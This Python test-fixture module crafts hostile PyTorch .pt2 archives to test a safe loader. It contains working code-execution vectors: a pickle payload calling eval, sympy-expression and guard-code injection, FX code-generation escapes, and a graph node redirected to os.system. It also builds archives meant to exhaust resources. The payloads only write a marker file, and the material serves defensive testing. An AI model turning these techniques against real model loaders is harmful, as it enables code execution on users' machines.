"""Hostile `.pt2` archives for the safety tests: a genuine torch.export.save file with one entry rewritten.

`genuine_pt2(path)` writes a real archive (conv, BatchNorm, a lifted tensor constant, a
non-persistent buffer). `craft(genuine, out, replace=..., edit_program=..., edit_json=...)`
copies it entry by entry (same root folder, same order) while replacing the bytes of some
entries, adding others, or editing the JSON of `models/model.json` and the payload configs:
what an attacker does with `zipfile`. `Payload(marker)` is an object whose unpickling writes
`marker` through `builtins.eval`, so a test can tell whether a file's pickle ever ran.
`size_expression`, `claiming` and `tensor_meta_of` build the archives that cost far more than they hold (a shape
expression sympy computes for hours, a tensor claiming more than its payload stores) or whose metadata the reader once
crashed on (issue 30).
"""

from __future__ import annotations

import io
import json
import math
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch

PROGRAM = "models/model.json"
WEIGHTS_CONFIG = "data/weights/model_weights_config.json"
CONSTANTS_CONFIG = "data/constants/model_constants_config.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"


class Payload:
    """Unpickling this calls eval(...), which writes the marker file: proof the pickle ran."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return eval, (f"__import__('pathlib').Path({self.marker!r}).write_text('payload ran')",)


def torch_saved_payload(marker: Path) -> bytes:
    """The payload as torch.save writes it (a zip holding data.pkl): what torch.load reads."""
    buffer = io.BytesIO()
    torch.save(Payload(marker), buffer)
    return buffer.getvalue()


def plain_pickled_payload(marker: Path) -> bytes:
    """The payload as pickle.dumps writes it: what pickle.loads reads (opaque objects)."""
    return pickle.dumps(Payload(marker), protocol=2)


def python_writing_marker(marker: Path) -> str:
    """A Python expression that writes the marker (for code smuggled into strings torch evaluates)."""
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('payload ran')"


class SmallNet(torch.nn.Module):
    """Conv + BatchNorm, a non-persistent buffer and a plain tensor attribute (lifted by export as a constant)."""

    def __init__(self):
        super().__init__()
        torch.manual_seed(0)
        self.conv = torch.nn.Conv2d(3, 4, 3)
        self.bn = torch.nn.BatchNorm2d(4)
        self.register_buffer("gain", torch.full((4, 1, 1), 1.5), persistent=False)
        self.offset = torch.arange(4.0).view(1, 4, 1, 1)
        self.train()
        with torch.no_grad():
            for _ in range(3):
                self.bn(self.conv(torch.randn(8, 3, 8, 8) + 0.5))
        self.eval()

    def forward(self, x):
        return self.bn(self.conv(x)) * self.gain + self.offset


class ConvBatchNorm(torch.nn.Module):
    """The smallest model with a BatchNorm worth registering: Conv2d(3, 4, 3) then BatchNorm2d(4), on (N, 3, 8, 8)."""

    def __init__(self):
        super().__init__()
        self.conv, self.bn = torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4)

    def forward(self, x):
        return self.bn(self.conv(x))


def genuine_pt2(path: Path, model: torch.nn.Module | None = None, example: tuple | None = None) -> Path:
    """A real torch.export.save archive of `model` (default SmallNet on a 2x3x8x8 input)."""
    model = model if model is not None else SmallNet()
    example = example if example is not None else (torch.randn(2, 3, 8, 8),)
    torch.export.save(torch.export.export(model, example), str(path))
    return path


def root_of(archive: Path) -> str:
    """The archive's root folder ('model/'): torch writes every entry under one folder."""
    with zipfile.ZipFile(archive) as zf:
        return zf.namelist()[0].split("/")[0] + "/"


def craft(
    genuine: Path,
    out: Path,
    *,
    replace: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
    edit_program: Callable[[dict], None] | None = None,
    edit_json: dict[str, Callable[[dict], None]] | None = None,
) -> Path:
    """Copy `genuine` to `out`, entry names relative to the root folder.

    `replace` gives new bytes for existing entries or adds new ones; `drop` removes entries;
    `edit_program` edits models/model.json in place; `edit_json` edits other JSON entries.
    """
    replace, edit_json = dict(replace or {}), dict(edit_json or {})
    if edit_program is not None:
        edit_json[PROGRAM] = edit_program
    root = root_of(genuine)
    with zipfile.ZipFile(genuine) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            name = info.filename[len(root) :]
            if name in drop:
                continue
            data = replace.pop(name) if name in replace else source.read(info)
            if name in edit_json:
                document = json.loads(data)
                edit_json[name](document)
                data = json.dumps(document).encode()
            target.writestr(info.filename, data)
        for name, data in replace.items():  # new entries
            target.writestr(root + name, data)
    return out


def read_entry(archive: Path, name: str) -> bytes:
    with zipfile.ZipFile(archive) as zf:
        return zf.read(root_of(archive) + name)


def first_node(program: dict, target_prefix: str) -> dict:
    """The first graph node of a serialized program whose target starts with `target_prefix`."""
    return next(n for n in program["graph_module"]["graph"]["nodes"] if n["target"].startswith(target_prefix))


def ascii_exec(marker: Path) -> str:
    """Python source that writes the marker, spelled without dots or quotes (fits where only a name is expected)."""
    code = f"open({str(marker)!r},'w').write('payload ran')"
    return "exec(bytes((" + ",".join(str(b) for b in code.encode()) + ",)))"


@dataclass(frozen=True)
class Hostile:
    """One attack: how to build it from a genuine archive, the entry the refusal must name,
    and whether it runs on torch.export.load."""

    build: Callable[[Path, Path, Path], Path]  # (genuine, out, marker) -> out
    entry: str  # the archive entry a refusal names
    live_on_torch_load: bool  # torch.export.load (or running the program it returns) writes the marker


def _config(genuine: Path, entry: str) -> dict:
    return json.loads(read_entry(genuine, entry))["config"]


def _pickled_payload(config_entry: str, folder: str, fqn_of: Callable[[dict], str]):
    """A payload config entry switched to use_pickle, its payload file replaced by the marker-writing pickle."""

    def build(genuine: Path, out: Path, marker: Path) -> Path:
        config = _config(genuine, config_entry)
        fqn = fqn_of(config)

        def flip(document: dict) -> None:
            document["config"][fqn]["use_pickle"] = True

        return craft(
            genuine,
            out,
            replace={folder + config[fqn]["path_name"]: torch_saved_payload(marker)},
            edit_json={config_entry: flip},
        )

    return build


def _object_constant(prefix: str):
    """A constant turned into a custom (TorchScript) or opaque (pickle.loads) object whose bytes are the payload."""

    def build(genuine: Path, out: Path, marker: Path) -> Path:
        fqn = next(iter(_config(genuine, CONSTANTS_CONFIG)))

        def swap(document: dict) -> None:
            document["config"][fqn] = {
                "path_name": f"{prefix}0",
                "is_param": False,
                "use_pickle": True,
                "tensor_meta": None,
            }

        return craft(
            genuine,
            out,
            replace={f"data/constants/{prefix}0": plain_pickled_payload(marker)},
            edit_json={CONSTANTS_CONFIG: swap},
        )

    return build


def _legacy(config_entry: str, legacy_entry: str):
    """The pre-2.6 layout: the payload config removed and a torch.save file in its place
    (torch falls back to the full unpickler)."""

    def build(genuine: Path, out: Path, marker: Path) -> Path:
        return craft(genuine, out, drop=(config_entry,), replace={legacy_entry: torch_saved_payload(marker)})

    return build


def _program_edit(edit: Callable[[dict, Path], None]):
    def build(genuine: Path, out: Path, marker: Path) -> Path:
        return craft(genuine, out, edit_program=lambda program: edit(program, marker))

    return build


def _symbolic_size(program: dict, marker: Path) -> None:
    """The input's batch size as a 'sympy expression' that is Python code (torch hands it to sympy.sympify, i.e.
    eval)."""
    sizes = program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
    sizes[0] = {"as_expr": {"expr_str": python_writing_marker(marker), "hint": {"as_int": 2}}}


def _guard(program: dict, marker: Path) -> None:
    """A guard (exec'd by ExportedProgram.module() when example inputs were loaded)."""
    program["guards_code"] = [python_writing_marker(marker) + " or True"]


def _file_operator(program: dict, marker: Path) -> None:
    """A node calling aten.from_file(shared=True), which creates the marker when the program runs."""
    node = first_node(program, "torch.ops.aten.mul")
    node["target"] = "torch.ops.aten.from_file.default"
    node["inputs"] = [
        {"name": "filename", "arg": {"as_string": str(marker)}, "kind": 1},
        {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
        {"name": "size", "arg": {"as_int": 16}, "kind": 1},
        {"name": "dtype", "arg": {"as_scalar_type": 7}, "kind": 2},
    ]


def _python_callable(program: dict, marker: Path) -> None:
    """A node whose target resolves to os.system through torch's module attributes."""
    node = first_node(program, "torch.ops.aten.mul")
    node["target"] = "torch.os.system"
    node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]
    program["verifiers"] = []


def _renamed(program: dict, old: str, new: str) -> None:
    """Every key and string value equal to `old` replaced by `new` (a consistent rename through the program)."""

    def walk(value):
        if isinstance(value, dict):
            return {(new if k == old else k): walk(v) for k, v in value.items()}
        if isinstance(value, list):
            return [walk(v) for v in value]
        return new if value == old else value

    renamed = walk(program)
    program.clear()
    program.update(renamed)


def _input_name(program: dict, marker: Path) -> None:
    """The input renamed to 'x=<code>': FX writes it into `def forward(self, x=<code>)` and execs it."""
    _renamed(program, "x", "x=" + ascii_exec(marker))


def _attribute_path(genuine: Path, out: Path, marker: Path) -> Path:
    """A parameter path that breaks out of FX's getattr(self, "...") in generated code."""
    evil = 'bn.w"),' + ascii_exec(marker) + ',getattr(self, "w'

    def weights(document: dict) -> None:
        document["config"][evil] = document["config"].pop("bn.weight")

    return craft(
        genuine,
        out,
        edit_program=lambda program: _renamed(program, "bn.weight", evil),
        edit_json={WEIGHTS_CONFIG: weights},
    )


def _compiled_code(genuine: Path, out: Path, marker: Path) -> Path:
    """An AOTInductor shared library next to the program (torch.export.load would dlopen a valid one)."""
    return craft(genuine, out, replace={"data/aotinductor/model/model.so": b"\x7fELF" + str(marker).encode()})


HOSTILE: dict[str, Hostile] = {
    "sample_inputs": Hostile(
        lambda g, o, m: craft(g, o, replace={SAMPLE_INPUTS: torch_saved_payload(m)}), SAMPLE_INPUTS, True
    ),
    "use_pickle_weight": Hostile(
        _pickled_payload(WEIGHTS_CONFIG, "data/weights/", lambda c: "bn.running_mean"), WEIGHTS_CONFIG, True
    ),
    "use_pickle_constant": Hostile(
        _pickled_payload(CONSTANTS_CONFIG, "data/constants/", lambda c: next(iter(c))), CONSTANTS_CONFIG, True
    ),
    "opaque_object_constant": Hostile(_object_constant("opaque_obj_"), "opaque_obj_0", True),
    "custom_object_constant": Hostile(_object_constant("custom_obj_"), "custom_obj_0", False),
    "legacy_state_dict": Hostile(_legacy(WEIGHTS_CONFIG, "data/weights/model.pt"), "data/weights/model.pt", True),
    "legacy_constants": Hostile(_legacy(CONSTANTS_CONFIG, "data/constants/model.pt"), "data/constants/model.pt", True),
    "sympy_expression": Hostile(_program_edit(_symbolic_size), PROGRAM, True),
    "guards_code": Hostile(_program_edit(_guard), PROGRAM, True),
    "file_operator": Hostile(_program_edit(_file_operator), PROGRAM, True),
    "python_callable": Hostile(_program_edit(_python_callable), PROGRAM, False),
    "input_name": Hostile(_program_edit(_input_name), PROGRAM, True),
    "attribute_path": Hostile(_attribute_path, PROGRAM, False),
    "compiled_code": Hostile(_compiled_code, "data/aotinductor/model/model.so", False),
}


# -- archives that cost far more than they hold (issue 30, holes 2 and 3),
#    and metadata the reader once crashed on (hole 10)


def power_tower(levels: int) -> str:
    """Pow(Pow(...Pow(Integer(10), 64)..., 64), 64): every exponent small, the number 10**(64**levels)."""
    return "Pow(" * levels + "Integer(10)" + ", 64)" * levels


def size_expression(expression: str, hint: int = 2) -> Callable[[Path, Path], Path]:
    """The input's batch size rewritten as `expression` (torch hands it to sympy.sympify while it reads the program)."""

    def edit(program: dict) -> None:
        sizes = program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
        sizes[0] = {"as_expr": {"expr_str": expression, "hint": {"as_int": hint}}}

    return lambda genuine, out: craft(genuine, out, edit_program=edit)


def first_constant(genuine: Path) -> str:
    return next(iter(_config(genuine, CONSTANTS_CONFIG)))


def claiming(
    config_entry: str,
    fqn: str | Callable[[Path], str],
    sizes: list[int],
    strides: list[int] | None = None,
    *,
    empty: bool = False,
) -> Callable[[Path, Path], Path]:
    """The tensor `fqn` of a payload config given `sizes` (and `strides`, contiguous by default) over its own payload,
    or over an empty one (torch makes zeros of the claimed size for an empty payload)."""

    def build(genuine: Path, out: Path) -> Path:
        name = fqn(genuine) if callable(fqn) else fqn
        config = _config(genuine, config_entry)
        contiguous = [math.prod(sizes[i + 1 :]) for i in range(len(sizes))]

        def edit(document: dict) -> None:
            meta = document["config"][name]["tensor_meta"]
            meta["sizes"] = [{"as_int": size} for size in sizes]
            meta["strides"] = [{"as_int": stride} for stride in (strides if strides is not None else contiguous)]

        payload = config_entry.rsplit("/", 1)[0] + "/" + config[name]["path_name"]
        return craft(genuine, out, replace={payload: b""} if empty else {}, edit_json={config_entry: edit})

    return build


def tensor_meta_of(config_entry: str, fqn: str, **fields) -> Callable[[Path, Path], Path]:
    """The tensor `fqn` of a payload config with some of its tensor_meta `fields` replaced."""

    def edit(document: dict) -> None:
        document["config"][fqn]["tensor_meta"].update(fields)

    return lambda genuine, out: craft(genuine, out, edit_json={config_entry: edit})
